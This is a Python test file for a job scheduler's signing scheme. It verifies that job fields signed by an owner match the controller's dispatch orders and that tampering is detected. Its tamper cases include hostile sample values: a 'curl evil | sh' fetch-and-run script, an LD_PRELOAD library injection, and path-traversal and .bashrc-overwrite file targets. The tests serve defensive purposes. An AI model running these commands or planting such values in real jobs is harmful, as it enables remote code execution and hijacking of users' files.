"""What a job's owner signs (as their `drover` sends the job) and what a node checks (as the
controller's order says it) are the same thing, through the controller's real submission and
dispatch, for every field the signature covers; and a change to any of them on the way is
seen. On plain data: no munged is needed to compare digests."""

from __future__ import annotations

import base64
import copy
from typing import Any

import msgspec
import pytest
from tests.helpers.controller_world import World, world  # noqa: F401  (a fixture)

from drover.cluster.signing import job_digest, outputs_as_signed, signed_order, signed_request
from drover.controller.upkeep.event_log import signed_fields
from drover.core.job_spec import marked
from drover.protocol.api import JobSubmission
from drover.protocol.node_channel import File, StartAttempt

JOBS: list[dict[str, Any]] = [
    {"script": "echo hi\n", "workdir": "/tmp"},
    {"script": "echo hi\n", "workdir": "/tmp", "name": "n1", "output": "o-%j-%x.txt", "error": "e-%u-%N.txt",
     "environment": {"A": "1", "PATH": "/bin"}, "prolog": "true", "epilog": "echo done",
     "stage_in": [{"name": "in/data", "data": base64.b64encode(b"\x00\x01").decode(), "mode": 0o600}],
     "stage_out": ["*.out", "res/*"], "event_log": "/tmp/events.jsonl"},
    {"script": "echo hi\n", "workdir": "/tmp", "array": "1-3", "name": "arr"},
    {"script": "echo hi\n", "workdir": "", "submit_dir": "/tmp", "output": "scratch.out"},  # scratch on the node
    {"script": "echo hi\n", "workdir": "/tmp", "done_output": "done-%j.txt", "mail_output": True,
     "mail_user": "ann@example.org"},
]


# What the owner's credential carried for each of JOBS before the signed fields were read from
# the spec's marks: a job queued then must still match what its node computes now.
DIGESTS = [
    "4ac29ca12f4d5c257dbf079e61ab79c3d7622aaadaf73e6b5c31198bdf62a93d",
    "0de666bcbfdcb3b220fd92b06366da51ae5108c7306277c18291805fec7bf565",
    "4d1fc81a66a38b44e51d233a69ebbb03eb7ca756bf4fba8703d87ce18b5ae93e",
    "638812f41e691110b06ea48d0adec53d8c1441b8bd8cb8be165662a9520c6aae",
    "c442aaeae36546e1a027d8a13db0a73c20f30d1c01e9fa418ae975968e409a4d",
]


def _submitted(world: World, job: dict[str, Any]) -> list[StartAttempt]:  # noqa: F811
    """`job` as the controller decodes it from the wire, submitted and dispatched."""
    submission = msgspec.json.decode(msgspec.json.encode(job), type=JobSubmission)
    world.submit(**{name: getattr(submission, name) for name in submission.__struct_fields__})
    return world.schedule()


@pytest.mark.parametrize("job", JOBS)
def test_what_is_signed_is_what_the_node_is_ordered_to_run(world: World, job: dict[str, Any]) -> None:  # noqa: F811
    world.connect(cpus=4)
    orders = _submitted(world, job)
    assert orders
    for order in orders:
        assert job_digest(signed_order(order)) == job_digest(signed_request(job))
        assert outputs_as_signed(order)


@pytest.mark.parametrize(("job", "digest"), list(zip(JOBS, DIGESTS, strict=True)))
def test_what_is_signed_is_what_earlier_releases_signed(job: dict[str, Any], digest: str) -> None:
    assert job_digest(signed_request(job)).hex() == digest


def test_the_signed_fields_are_the_specs_marked_ones() -> None:
    signed = signed_request({**JOBS[1], "done_output": "done-%j.txt"})
    payload_and_name = {"script", "environment", "stage_in", "name"}
    assert set(signed) - payload_and_name == set(marked("signed"))
    assert {name for name, when in marked("signed").items() if when == "when_set"} == {"event_log", "done_output"}
    # A field signed only when set is left out when it is not: older credentials still match.
    assert "event_log" not in signed_request(JOBS[0]) and "done_output" not in signed_request(JOBS[0])


@pytest.mark.parametrize(("field", "change"), [
    ("script", lambda o: setattr(o, "script", "curl evil | sh\n")),
    ("workdir", lambda o: o.config["job"].__setitem__("workdir", "/root")),
    ("environment", lambda o: o.config["environment"].__setitem__("LD_PRELOAD", "/tmp/x.so")),
    ("prolog", lambda o: o.config["job"].__setitem__("prolog", "evil")),
    ("epilog", lambda o: o.config["job"].__setitem__("epilog", "evil")),
    ("name", lambda o: o.config.__setitem__("name", "../../.bashrc")),
    ("stage_in", lambda o: o.stage_in.append(File(".bashrc", b"evil", 0o644))),
    ("stage_out", lambda o: o.config["job"]["stage_out"].append("*")),
    ("output pattern", lambda o: o.config["job"].__setitem__("output", "../.profile")),
    ("event log", lambda o: o.config["job"].__setitem__("event_log", "/home/victim/.bashrc")),
    ("no event log", lambda o: o.config["job"].__setitem__("event_log", None)),
])
def test_a_change_on_the_way_is_seen(world: World, field: str, change: Any) -> None:  # noqa: F811
    job = JOBS[1]
    world.connect()
    (order,) = _submitted(world, job)
    changed = copy.deepcopy(order)
    change(changed)
    assert job_digest(signed_order(changed)) != job_digest(signed_request(job)), field


def test_an_output_file_elsewhere_than_its_pattern_says_is_seen(world: World) -> None:  # noqa: F811
    world.connect()
    world.submit(script="true\n", workdir="/tmp", output="o.txt")
    (order,) = world.schedule()
    assert outputs_as_signed(order)
    moved = copy.deepcopy(order)
    moved.config["stdout"] = "/home/someone/.bashrc"
    assert not outputs_as_signed(moved)
    elsewhere = copy.deepcopy(order)  # the working directory the node runs in, not the one signed
    elsewhere.config["workdir"] = "/root"
    assert not outputs_as_signed(elsewhere)


def test_a_done_output_file_changed_or_added_on_the_way_is_seen(world: World) -> None:  # noqa: F811
    """--done-output names where the node writes as the owner: its pattern is signed, and the
    file the order names must be what the pattern makes."""
    job = JOBS[4]
    world.connect()
    (order,) = _submitted(world, job)
    assert outputs_as_signed(order)
    moved = copy.deepcopy(order)
    moved.config["done_output"] = "/home/victim/.bashrc"
    assert not outputs_as_signed(moved)
    repatterned = copy.deepcopy(order)
    repatterned.config["job"]["done_output"] = "../.bashrc"
    assert job_digest(signed_order(repatterned)) != job_digest(signed_request(job))
    (plain,) = _submitted(world, JOBS[0])
    added = copy.deepcopy(plain)
    added.config["done_output"] = "/home/victim/.bashrc"
    assert not outputs_as_signed(added)


def test_an_event_log_added_on_the_way_is_seen(world: World) -> None:  # noqa: F811
    job = JOBS[0]
    world.connect()
    (order,) = _submitted(world, job)
    changed = copy.deepcopy(order)
    changed.config["job"]["event_log"] = "/home/victim/.bashrc"
    assert job_digest(signed_order(changed)) != job_digest(signed_request(job))


def test_a_job_without_an_event_log_signs_what_it_signed_before_the_event_log_was_covered() -> None:
    """Jobs queued across the upgrade that made the event log part of the signature still run."""
    signed = signed_request(JOBS[0])
    assert "event_log" not in signed
    assert signed_request({**JOBS[0], "event_log": None}) == signed


@pytest.mark.parametrize("job", JOBS)
def test_what_the_controller_sends_the_event_logs_node_is_what_the_owner_signed(world: World,  # noqa: F811
                                                                                 job: dict[str, Any]) -> None:
    """The node that writes a job's event log is sent the signed fields as the controller makes
    them of the stored job (controller/upkeep/event_log.py): the digest the owner's credential carries."""
    world.connect(cpus=4)
    _submitted(world, job)
    stored = world.store.load_job(max(world.state.jobs))
    assert stored is not None
    payload = world.store.job_payloads([stored.id])[stored.id]  # kept apart from the spec
    assert job_digest(signed_fields(stored, payload)) == job_digest(signed_request(job))
